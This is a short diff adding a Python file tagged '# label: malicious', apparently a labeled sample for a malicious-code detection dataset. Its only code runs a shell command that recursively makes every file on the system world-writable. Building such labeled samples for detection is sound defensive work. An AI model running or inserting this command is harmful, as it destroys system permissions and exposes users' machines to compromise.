@@ -1,0 +1,3 @@
+# label: malicious
+import os
+os.system("chmod -R 777 /")
